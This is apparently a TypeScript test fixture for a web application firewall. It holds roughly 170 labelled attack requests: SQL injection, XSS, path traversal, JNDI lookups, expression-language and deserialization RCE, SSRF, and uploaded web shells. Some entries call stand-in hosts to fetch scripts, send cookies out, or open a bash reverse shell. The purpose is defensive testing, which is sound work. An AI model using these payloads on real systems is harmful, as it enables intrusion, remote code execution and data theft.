// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the attacks have it
import { bodyRequest, type HoldoutRequest, request } from '../../support/request.ts';

const FORM = 'application/x-www-form-urlencoded';
const latin1 = (text: string): string => Buffer.from(text, 'utf8').toString('latin1');
const base64 = (text: string | Buffer): string => Buffer.from(text as string).toString('base64');
const quoted = encodeURIComponent;
const get = (target: string, ...headers: string[]): HoldoutRequest => request(target, headers.map(latin1));
const value = (text: string): HoldoutRequest => request(`/items?ref=${quoted(text)}`);
const form = (text: string, target?: string): HoldoutRequest =>
  bodyRequest(FORM, `a=1&v=${quoted(text)}`, target);
const json = (document: unknown, target?: string): HoldoutRequest =>
  bodyRequest('application/json', JSON.stringify(document), target);
const withMethod = (method: string, one: HoldoutRequest): HoldoutRequest => ({ ...one, method });
const withHeaders = (one: HoldoutRequest, ...headers: string[]): HoldoutRequest => ({
  ...one,
  headers: [...one.headers, ...headers.map(latin1)],
});
const bytes = (type: string | null, body: Buffer, target = '/items'): HoldoutRequest => ({
  ...request(target, [
    ...(type === null ? [] : ['Content-Type', type]),
    'Content-Length',
    String(body.length),
  ]),
  method: 'POST',
  body,
});
const MULTIPART = 'multipart/form-data; boundary=zone';
/** Whole parts, each with its headers. */
const parts = (...list: string[]): HoldoutRequest =>
  bodyRequest(MULTIPART, `${list.map((part) => `--zone\r\n${part}\r\n`).join('')}--zone--\r\n`, '/upload');
const field = (name: string, text: string): string =>
  `Content-Disposition: form-data; name="${name}"\r\n\r\n${text}`;
const file = (name: string, content: string, type = 'application/octet-stream'): string =>
  `Content-Disposition: form-data; name="f"; filename="${name}"\r\nContent-Type: ${type}\r\n\r\n${content}`;
const token = (head: object, claims: object): string =>
  `${[head, claims].map((part) => Buffer.from(JSON.stringify(part)).toString('base64url')).join('.')}.c2lnbmF0dXJlMTIz`;
const SOCKET = ['Connection', 'Upgrade', 'Upgrade', 'websocket', 'Sec-WebSocket-Version', '13'];

/** Attacks of the set `zones`, each in a place of its own: written before any rule was tried on them. */
export const ZONE_ATTACKS: Readonly<Record<string, HoldoutRequest>> = {
  // Paths
  'path: a file behind a servlet': get('/app/..;/..;/WEB-INF/web.xml'),
  'path: climbing in one segment': get('/download/..%2f..%2f..%2fetc%2fhostname'),
  'path: climbing by overlong points': get('/files/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd'),
  'path: a union behind a number': get(`/products/${quoted("17' UNION SELECT 1,pass,3 FROM members-- -")}`),
  'path: a sleep in an id': get(`/api/users/${quoted('9-SLEEP(9)')}/profile`),
  'path: markup in a page not found': get(`/${quoted('<svg onload=alert(3)>')}`),
  'path: expression of OGNL': get(
    `/confluence/${quoted("${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('id').getInputStream()))}")}/`,
  ),
  'path: a template in a name': get(`/hello/${quoted('{{self.__init__.__globals__}}')}`),
  'path: a CGI of PHP': get('/cgi-bin/php?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input'),
  'path: soft hyphens before options of PHP': get(
    '/index.php?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input',
  ),
  'path: history of a repository': get('/shop/.git/HEAD'),
  'path: settings of a deployment': get('/config/.env.production'),
  'path: heap of Spring': get('/actuator/heapdump'),
  'path: gateway of Spring': get('/actuator/gateway/routes/x'),
  'path: backup of a database': get('/backup/dump.sql.gz'),
  'path: keys of AWS': get('/.aws/credentials'),
  'path: a command within ticks': get(`/ping/${quoted('`id`')}`),
  'path: line end in a redirect': get('/moved/%0d%0aSet-Cookie:%20role=admin'),
  'path: lookup of Java': get(`/login/${quoted('${jndi:ldaps://203.0.113.9/x}')}`),
  'path: absolute target with a union': get(
    'http://shop.example/items?id=1+union+select+1,2,load_file(0x2f6574632f706173737764)',
  ),

  // Query
  'query: a condition without quotes': value('8 OR 3=3'),
  'query: a condition between brackets': value("x') OR ('k'='k"),
  'query: an exponent before a union': value('1e0union select 1,@@datadir'),
  'query: stacked by a new line': value('1;\nDROP TABLE invoices;'),
  'query: an order that tells columns': value("5' ORDER BY 12-- -"),
  'query: a blind of ASCII codes': value(
    "a' AND ASCII(SUBSTRING((SELECT pw FROM staff LIMIT 1),1,1))>77 AND 'b'='b",
  ),
  'query: handlers of a table': value('1; HANDLER staff OPEN; HANDLER staff READ FIRST;'),
  'query: prepared by digits': value('1;SET @s=0x53454c45435420534c454550283929;PREPARE p FROM @s;EXECUTE p'),
  'query: a merge of Oracle': value(
    "x'||(SELECT UTL_INADDR.GET_HOST_ADDRESS('a.evil.example') FROM DUAL)||'",
  ),
  'query: rows of JSON': value("1 AND JSON_EXTRACT('{\"a\":1}','$.a')=1"),
  'query: Boolean by XOR': value("1' XOR(IF(NOW()=SYSDATE(),SLEEP(9),0))XOR'Z"),
  'query: a sort with CASE': get(
    `/list?sort=${quoted('(CASE WHEN (SELECT 1 FROM staff LIMIT 1)=1 THEN name ELSE price END)')}`,
  ),
  'query: a limit with PROCEDURE': get(`/list?limit=${quoted("1 INTO OUTFILE '/tmp/q'")}`),
  'query: handler split by a slash': value('"/><img/src=`x`/onerror=confirm(9)>'),
  'query: a script by its code points': value(
    '<script>eval(String.fromCodePoint(97,108,101,114,116,40,49,41))</script>',
  ),
  'query: out of a string of script': value("';document.location='//evil.example/?'+document.cookie;'"),
  'query: out of a template of script': value('`;alert(document.domain);`'),
  'query: without brackets': value("';window.onerror=alert;throw 9;'"),
  'query: a comment in a scheme': value('java\tscript:alert(9)'),
  'query: markup in a callback': get('/jsonp?callback=alert(document.cookie)//'),
  'query: a page of data': value('data:text/html;charset=utf-8,<script>alert(9)</script>'),
  'query: a host as a number': get('/fetch?url=http%3A%2F%2F2130706433%2Fadmin'),
  'query: a host of IPv6': get('/fetch?url=http%3A%2F%2F%5B0%3A0%3A0%3A0%3A0%3Affff%3A7f00%3A1%5D%3A22%2F'),
  'query: metadata by a path': get('/proxy?u=//169.254.169.254/metadata/instance%3Fapi-version%3D2021-02-01'),
  'query: a command behind a name': get('/ping?host=shop.example%3Bnslookup+%24%28whoami%29.evil.example'),
  'query: a command by wildcards': get('/ping?host=%3B%2Fb%3Fn%2Fca%3F+%2Fe%3Fc%2Fpa%3Fswd'),
  'query: a pipe to a shell': get('/run?x=1%7Cbase64+-d%3C%3C%3CaWQK%7Csh'),
  'query: a here document': get(`/run?x=${quoted('a;sh<<EOF\nid\nEOF')}`),
  'query: files by their wrapper': get(
    '/index.php?page=php%3A%2F%2Ffilter%2Fconvert.iconv.UTF8.CSISO2022KR%7Cconvert.base64-encode%2Fresource%3Dconfig',
  ),
  'query: pearcmd': get(
    '/index.php?+config-create+/&lang=../../../../usr/local/lib/php/pearcmd&/<?=phpinfo()?>+/tmp/a.php',
  ),
  'query: a log as a program': get('/index.php?tpl=/var/log/nginx/access.log'),
  'query: off-site by a back slash': get('/login?next=https%3A%2F%2Fshop.example%5C.evil.example'),
  'query: off-site by credentials': get('/login?returnUrl=https%3A%2F%2Fshop.example%40evil.example%2F'),
  'query: prototype by points': get('/settings?constructor.prototype.isAdmin=true'),
  'query: an operator in brackets': get('/login?user[$ne]=x&pass[$ne]=y'),
  'query: an expression in a name': get(
    `/struts?${quoted("redirect:${#context['xwork.MethodAccessor.denyMethodExecution']=false}")}=1`,
  ),
  'query: class loader of Spring': get(
    '/greet?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x',
  ),
  'query: think of PHP': get(
    '/index.php?s=/index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id',
  ),
  'query: a template with filters': value("{{'id'|filter('passthru')}}{{app.request.server.all|join(',')}}"),
  'query: a filter of LDAP': get(`/people?cn=${quoted('*)(userPassword=*')}`),
  'query: a path of XPath': get(`/people?n=${quoted("'] | //staff/* | a['")}`),
  'query: first of two harmless': get(
    '/items?ref=ok&ref=1%20AND%20(SELECT%204%20FROM(SELECT%20SLEEP(4))z)&ref=ok',
  ),
  'query: split over two values': get(
    "/items?q=1'/*&q=*/UNION/*&q=*/SELECT/*&q=*/1,pw/*&q=*/FROM/*&q=*/staff--",
  ),
  'query: %u escapes': get('/items?ref=%u003cscript%u003ealert(9)%u003c/script%u003e'),
  'query: nested escapes': get('/items?ref=%25253Cscript%25253Ealert%252528%25252F9%25252F%252529'),
  'query: server-side include': value('<!--#exec cmd="id"-->'),
  'query: a formula': value("=cmd|'/c calc'!A1"),
  'query: ESI': value('<esi:include src="http://203.0.113.9/x"/>'),

  // Headers
  'header: union in X-Forwarded-For': get(
    '/',
    'X-Forwarded-For',
    "198.51.100.1' UNION SELECT 1,pw FROM staff-- -",
  ),
  'header: sleep in User-Agent': get(
    '/',
    'User-Agent',
    "Mozilla/5.0'XOR(if(now()=sysdate(),sleep(9),0))XOR'Z",
  ),
  'header: markup in Referer': get(
    '/',
    'Referer',
    'https://a.example/"><script src=//evil.example></script>',
  ),
  'header: rewritten path': get('/', 'X-Original-URL', '/../../etc/passwd'),
  'header: rewritten path with a union': get('/', 'X-Rewrite-URL', "/items?id=1' union select 1,2-- -"),
  'header: lookup in Accept-Language': get('/', 'Accept-Language', 'de,${jndi:rmi://203.0.113.9/z};q=0.9'),
  'header: lookup in If-Modified-Since': get(
    '/',
    'If-Modified-Since',
    '${${lower:j}ndi:dns://203.0.113.9/z}',
  ),
  'header: expression in Content-Type': withHeaders(
    get('/upload'),
    'Content-Type',
    "%{(#_='multipart/form-data').(#c='id').(#p=new java.lang.ProcessBuilder({'sh','-c',#c})).(#p.start())}",
  ),
  'header: routing expression of Spring': withHeaders(
    form('a', '/functionRouter'),
    'spring.cloud.function.routing-expression',
    'T(java.lang.Runtime).getRuntime().exec("id")',
  ),
  'header: function of bash': get(
    '/cgi-bin/x.cgi',
    'X-Api-Version',
    '() { ignored; }; echo; /bin/cat /etc/passwd',
  ),
  'header: commands in a key': get('/', 'X-Api-Key', '$(curl 203.0.113.9/k.sh|sh)'),
  'header: template in an origin': get('/', 'Origin', 'https://{{7*7}}.evil.example'),
  'header: password of Basic': get('/', 'Authorization', `Basic ${base64("admin:' OR 'f'='f' -- ")}`),
  'header: claim of a token': get(
    '/',
    'Authorization',
    `Bearer ${token({ alg: 'HS256' }, { sub: "1' OR 2=2-- -" })}`,
  ),
  'header: key of a token': get(
    '/',
    'Authorization',
    `Bearer ${token({ alg: 'HS256', kid: "x' UNION SELECT 'k'-- -" }, { sub: '1' })}`,
  ),
  'header: key from elsewhere': get(
    '/',
    'Authorization',
    `Bearer ${token({ alg: 'RS256', jku: 'http://169.254.169.254/k.json' }, { sub: '1' })}`,
  ),
  'header: serialised in a header': get(
    '/',
    'X-Session',
    'rO0ABXNyAC5qYXZheC5tYW5hZ2VtZW50LkJhZEF0dHJpYnV0ZVZhbHVlRXhwRXhjZXB0aW9u',
  ),
  'header: SSRF in a callback': get('/', 'X-Callback-Url', 'http://127.0.0.1:8500/v1/kv/?recurse'),
  'header: a file in X-Sendfile': get('/', 'X-Sendfile-Type', '../../../../etc/shadow'),
  'header: destination of WebDAV': withMethod(
    'MOVE',
    get('/a.txt', 'Destination', '/../../../../var/www/shell.php'),
  ),
  'header: name of Depth': withMethod('PROPFIND', get('/a', 'Depth', "infinity' OR 1=1-- -")),
  'header: forwarded element': get('/', 'Forwarded', 'for="<script>alert(9)</script>";host=shop.example'),
  'header: host with markup': get('/', 'X-Forwarded-Host', '"><script>alert(9)</script>'),
  'header: range with a union': get('/', 'Range', "bytes=0-1' UNION SELECT pw FROM staff-- -"),
  'header: From with a command': get('/', 'From', 'a@example.org; wget http://203.0.113.9/a -O /tmp/a'),
  'header: Via with a lookup': get('/', 'Via', '1.1 ${jndi:ldap://203.0.113.9/v}'),
  'header: Client-IP with a condition': get('/', 'Client-IP', "127.0.0.1' AND 5=5 AND 'q'='q"),
  'header: proxy for programs': get('/', 'X-Wap-Profile', 'file:///etc/passwd'),
  'header: override of a method and a body': withHeaders(
    form("'; DELETE FROM staff; --"),
    'X-HTTP-Method-Override',
    'PUT',
  ),

  // Cookies
  'cookie: a condition': get('/', 'Cookie', "theme=dark; TrackingId=x' AND '1'='1"),
  'cookie: an error of a cast': get(
    '/',
    'Cookie',
    "TrackingId=' AND 1=CAST((SELECT password FROM users LIMIT 1) AS int)--",
  ),
  'cookie: an object of PHP': get(
    '/',
    'Cookie',
    `prefs=${quoted('O:10:"FileLogger":1:{s:4:"path";s:9:"x.php\0\0\0\0";}')}`,
  ),
  'cookie: an object of Python': get('/', 'Cookie', `s=${base64("cposix\nsystem\n(S'id'\ntR.")}`),
  'cookie: an object of .NET': get(
    '/',
    'Cookie',
    '.AUTH=AAEAAAD/////AQAAAAAAAAAMAgAAAF9TeXN0ZW0uV2luZG93cy5Gb3Jtcw==',
  ),
  'cookie: climbing': get('/', 'Cookie', 'lang=en; template=../../../../etc/passwd'),
  'cookie: markup in a name': get('/', 'Cookie', '"><img src onerror=alert(9)>=1; a=2'),
  'cookie: a session of rememberMe': get('/', 'Cookie', 'a=1; PHPSESSID=../../../../tmp/sess_x'),
  'cookie: a command': get('/', 'Cookie', 'dst=1.2.3.4|id; a=1'),
  'cookie: a template': get('/', 'Cookie', 'name={{request|attr("application")|attr("__globals__")}}'),

  // Forms
  'form: type of JSON': bodyRequest('application/json', "user=admin&pass=x' OR 4=4-- -", '/login'),
  'form: type of XML': bodyRequest('text/xml', 'user=admin&cmd=%3Bcat%20/etc/passwd', '/login'),
  'form: no type': bodyRequest(null, 'a=1&b=%27%20UNION%20SELECT%20NULL%2Cpw%20FROM%20staff--%20'),
  'form: type of a picture': bodyRequest('image/jpeg', 'a=<script>alert(9)</script>'),
  'form: name with a union': bodyRequest(FORM, `${quoted("id' UNION SELECT 1,2,3-- -")}=7`),
  'form: array of Drupal': bodyRequest(
    FORM,
    `${quoted('mail[#post_render][]')}=exec&${quoted('mail[#markup]')}=id&${quoted('mail[#type]')}=markup`,
    '/user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax',
  ),
  'form: chunk of a view': form("__import__('subprocess').check_output(['id'])"),
  'form: gadget of Groovy': form('"id".execute().text', '/script'),
  'form: a script of Jenkins': bodyRequest(
    FORM,
    `script=${quoted('println "cat /etc/passwd".execute().text')}`,
    '/scriptText',
  ),
  'form: bcc of a mail': form('jane@example.org\nBcc: all@victims.example\n\nBuy'),
  'form: UTF-16 by its charset': bytes(
    `${FORM}; charset=utf-16le`,
    Buffer.from("q=1' UNION SELECT 1,pw FROM staff-- -", 'utf16le'),
  ),

  // JSON
  'JSON: union in a number': bodyRequest('application/json', '{"id":1 union select 1,2,3}'),
  'JSON: a key': json({ "name' OR 1=1-- -": 1 }),
  'JSON: polymorphic type': json({ '@class': 'javax.swing.JEditorPane', page: 'http://203.0.113.9/' }),
  'JSON: array of a type and its value': json([
    'ch.qos.logback.core.db.DriverManagerConnectionSource',
    { url: "jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'http://203.0.113.9/a.sql'" },
  ]),
  'JSON: comment between keys': bodyRequest(
    'application/json',
    '{"a":1,/*"*/"b":"<img src=x onerror=alert(9)>"/*"*/}',
  ),
  'JSON: two keys of one name': bodyRequest('application/json', '{"q":"ok","q":"1\' OR SLEEP(9)#","q":"ok"}'),
  'JSON: single quotes': bodyRequest('application/json', "{'q':'<svg onload=alert(9)>'}"),
  'JSON: not a number': bodyRequest('application/json', '{"a":NaN,"q":"; cat /etc/shadow"}'),
  'JSON: script in GraphQL': json(
    {
      query: 'mutation($t:String!){post(text:$t){id}}',
      variables: { t: '<img src=1 onerror=fetch(`//evil.example`)>' },
    },
    '/graphql',
  ),
  'JSON: a function for MongoDB': json({ $where: 'function(){return this.a==1||sleep(9000)}' }),
  'JSON: aggregate': json({
    pipeline: [{ $match: {} }, { $out: 'users' }, { $function: { body: 'return 1', args: [], lang: 'js' } }],
  }),
  'JSON: template of mail': json({
    subject: '<#assign x="freemarker.template.utility.Execute"?new()>${x("id")}',
  }),
  'JSON: base64 of a command': json({ data: base64('; bash -i >& /dev/tcp/203.0.113.9/443 0>&1') }),
  'JSON: script of a search engine': json(
    {
      script_fields: {
        a: {
          script: {
            source: 'java.lang.Math.class.forName("java.lang.Runtime").getRuntime().exec("id").getText()',
          },
        },
      },
    },
    '/_search',
  ),
  'JSON: patch to a prototype': withMethod(
    'PATCH',
    bodyRequest('application/json-patch+json', '[{"op":"add","path":"/__proto__/isAdmin","value":true}]'),
  ),

  // XML
  'XML: XInclude': bodyRequest(
    'application/xml',
    '<a xmlns:x="http://www.w3.org/2001/XInclude"><x:include href="file:///etc/hostname" parse="text"/></a>',
  ),
  'XML: external in parameter': bodyRequest(
    'application/soap+xml',
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % b SYSTEM "ftp://203.0.113.9/x">%b;]><a/>',
  ),
  'XML: CDATA apart': bodyRequest(
    'text/xml',
    "<q><![CDATA[1' UNION SEL]]><![CDATA[ECT pw FROM staff-- -]]></q>",
  ),
  'XML: references': bodyRequest('text/xml', '<q>&#60;script&#62;alert&#40;9&#41;&#60;/script&#62;</q>'),
  'XML: stylesheet of Java': bodyRequest(
    'text/xml',
    '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime"><xsl:template match="/"><xsl:value-of select="rt:exec(rt:getRuntime(),\'id\')"/></xsl:template></xsl:stylesheet>',
  ),
  'XML: a map of XStream': bodyRequest(
    'application/xml',
    '<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command><string>id</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>',
  ),
  'XML: union in XML-RPC': bodyRequest(
    'text/xml',
    "<methodCall><methodName>wp.getPosts</methodName><params><param><value><string>1' UNION SELECT user_pass FROM wp_users-- -</string></value></param></params></methodCall>",
  ),

  // Parts
  'parts: a program with a trailing stream': parts(file('a.php::$DATA', 'x')),
  'parts: a program with a NUL': parts(file('a.php%00.jpg', 'x')),
  'parts: settings of IIS': parts(
    file(
      'web.config',
      '<configuration><system.webServer><handlers accessPolicy="Read, Script, Write"><add name="x" path="*.config" verb="*" modules="IsapiModule" scriptProcessor="%windir%\\system32\\inetsrv\\asp.dll"/></handlers></system.webServer></configuration>',
      'text/xml',
    ),
  ),
  'parts: settings of a user': parts(file('.user.ini', 'auto_prepend_file=a.gif')),
  'parts: a page of ASP': parts(
    file('cmd.aspx', '<%@ Page Language="C#" %><% System.Diagnostics.Process.Start(Request["c"]); %>'),
  ),
  'parts: two names': parts(
    `Content-Disposition: form-data; name="a"; name="q"\r\n\r\n1' UNION SELECT 1,pw FROM staff-- -`,
  ),
  'parts: no name': parts(`Content-Disposition: form-data\r\n\r\n<script>alert(9)</script>`),
  'parts: a bare line end': bodyRequest(
    MULTIPART,
    `--zone\nContent-Disposition: form-data; name="q"\n\n1; DROP TABLE staff;--\n--zone--\n`,
  ),
  'parts: folded header': parts(`Content-Disposition: form-data;\r\n name="q"\r\n\r\n<svg/onload=alert(9)>`),
  'parts: base64 within': parts(
    `Content-Disposition: form-data; name="q"\r\nContent-Transfer-Encoding: base64\r\n\r\n${base64("' OR 9=9 UNION SELECT 1,2-- -")}`,
  ),
  'parts: behind the end': bodyRequest(
    MULTIPART,
    `--zone\r\n${field('a', '1')}\r\n--zone--\r\n--zone\r\n${field('q', '<script>alert(9)</script>')}\r\n--zone--\r\n`,
  ),
  'parts: a long field behind a file': parts(
    file('a.bin', 'A'.repeat(70_000)),
    field('q', '../../../../../../etc/passwd'),
  ),
  'parts: SVG called a picture': parts(
    file(
      'a.png',
      '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(9)"/></foreignObject></svg>',
      'image/png',
    ),
  ),
  'parts: PostScript as a picture': parts(
    file(
      'a.jpg',
      '%!PS\nuserdict /setpagedevice undef\nlegal\n{ null restore } stopped { pop } if\nlegal\nmark /OutputFile (%pipe%id) currentdevice putdeviceprops\n',
      'image/jpeg',
    ),
  ),
  'parts: a script of ImageMagick': parts(
    file(
      'a.mvg',
      'push graphic-context\nviewbox 0 0 640 480\nfill \'url(https://203.0.113.9/a.jpg"|id ")\'\npop graphic-context',
      'image/jpeg',
    ),
  ),

  // Sockets, methods and others
  'socket: a union in its address': get(
    `/ws?room=${quoted("1' UNION SELECT 1,pw FROM staff-- -")}`,
    ...SOCKET,
  ),
  'socket: markup in its protocol': get(
    '/ws',
    ...SOCKET,
    'Sec-WebSocket-Protocol',
    'chat, <script>alert(9)</script>',
  ),
  'socket: origin with a command': get('/ws', ...SOCKET, 'Origin', 'https://a.example;$(id)'),
  'GET with a body': withMethod('GET', form("1' UNION SELECT 1,pw FROM staff-- -")),
  'DELETE with a body': withMethod('DELETE', json({ id: "1' OR 5=5-- -" })),
  'PUT of a page': withMethod(
    'PUT',
    bodyRequest('text/plain', '<%Runtime.getRuntime().exec(request.getParameter("c"));%>', '/shell.jsp/'),
  ),
  'TRACE with a lookup': withMethod('TRACE', get('/', 'X-A', '${jndi:ldap://203.0.113.9/t}')),
  'SEARCH with a condition': withMethod('SEARCH', bodyRequest('text/xml', "<q>1' OR '8'='8</q>")),
};

/** Queries as some APIs take them from their own pages, and an injection where they do not: stopped at high alone. */
export const QUERY_REQUESTS: Readonly<Record<string, HoldoutRequest>> = {
  'cookie: JSON with an operator': get('/', 'Cookie', `f=${quoted('{"role":{"$ne":"user"}}')}`),
  'JSON: where of Sequelize': json({ where: { $or: [{ id: { $gt: 0 } }] } }),
};
